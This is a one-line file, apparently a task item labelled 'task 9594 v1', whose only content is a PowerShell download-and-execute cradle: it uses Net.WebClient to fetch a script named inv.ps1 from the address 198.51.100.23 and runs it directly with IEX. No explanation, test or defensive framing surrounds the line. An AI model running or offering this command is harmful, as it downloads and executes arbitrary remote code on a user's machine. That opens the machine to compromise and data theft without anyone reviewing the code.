# task 9594 v1
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1')
